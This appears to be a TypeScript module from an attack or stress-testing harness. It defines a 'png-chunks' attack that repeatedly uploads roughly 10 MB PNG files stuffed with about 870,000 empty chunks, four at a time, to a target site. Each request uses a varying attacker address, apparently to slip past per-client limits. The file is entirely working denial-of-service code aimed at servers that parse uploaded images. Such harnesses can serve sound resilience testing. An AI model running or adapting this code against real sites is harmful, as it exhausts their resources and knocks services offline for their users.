import { type Attack, attackerAddress, scaled } from "./attack.ts";
import { largestFile, pictureOfEmptyChunks } from "./pictures.ts";
import { uploadPicture } from "./requests.ts";

const [uploads, atOnce] = [24, 4];

/** Uploads pictures of 10 MB that each contain 870,000 empty chunks, four at a time. */
export const pngChunks: Attack = {
  name: "png-chunks",
  async prepare(order) {
    const picture = pictureOfEmptyChunks(largestFile - 1000);
    return async () => {
      const until = performance.now() + order.seconds * 1000;
      const statuses: Record<string, number> = {};
      let sent = 0;
      const upload = async (): Promise<void> => {
        while (sent < scaled(order, uploads) && performance.now() < until) {
          const sender = { url: order.url, key: order.siteKey, address: attackerAddress(order, sent++) };
          const { status } = await uploadPicture(sender, picture);
          statuses[status] = (statuses[status] ?? 0) + 1;
        }
      };
      await Promise.all(Array.from({ length: atOnce }, upload));
      return { statuses, connections: atOnce, closedByServer: 0 };
    };
  },
};
